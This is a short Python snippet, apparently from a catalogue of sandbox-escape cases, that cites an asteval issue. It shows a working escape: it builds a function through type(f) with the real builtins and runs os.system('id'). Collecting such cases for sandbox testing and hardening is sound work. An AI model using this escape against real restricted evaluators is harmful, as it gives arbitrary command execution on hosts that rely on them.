# Source: https://github.com/lmfit/asteval/issues/32 (type() can create new classes / functions)
# Family: type-trick
# What: type(f)(code, globals) builds a new function with the real builtins
def f():
    pass

src = compile("__import__('os').system('id')", "x", "eval")
type(f)(src, {"__builtins__": __builtins__})()
